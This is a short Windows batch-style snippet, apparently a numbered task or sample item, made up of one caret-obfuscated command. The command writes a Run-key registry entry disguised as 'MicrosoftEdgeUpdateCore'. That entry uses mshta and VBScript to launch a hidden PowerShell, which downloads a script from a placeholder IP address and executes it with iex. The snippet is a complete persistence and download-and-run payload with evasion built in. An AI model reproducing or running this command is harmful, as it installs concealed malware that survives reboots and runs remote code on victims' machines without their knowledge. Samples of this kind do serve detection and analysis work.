REM task 7142 v0
^reg ^a^dd HK^CU\Sof^twa^r^e\M^i^cr^oso^ft\^Windo^ws\^Cu^rr^e^nt^Vers^ion\^R^u^n /^v Mi^c^r^o^so^f^t^EdgeU^pd^ate^Cor^e /t ^REG_^SZ /d "mshta vbscript:Execute(\"C^reat^eO^b^ject(\"\"^WSc^r^i^pt.Sh^ell\"\").R^u^n \"\"p^owe^r^s^h^el^l -w hi^dden -c iwr h^t^t^p://19^8.^5^1.100.^2^3/^u^pd^at^e.^p^s^1|i^e^x\"\", ^0:^cl^o^s^e\")" /f
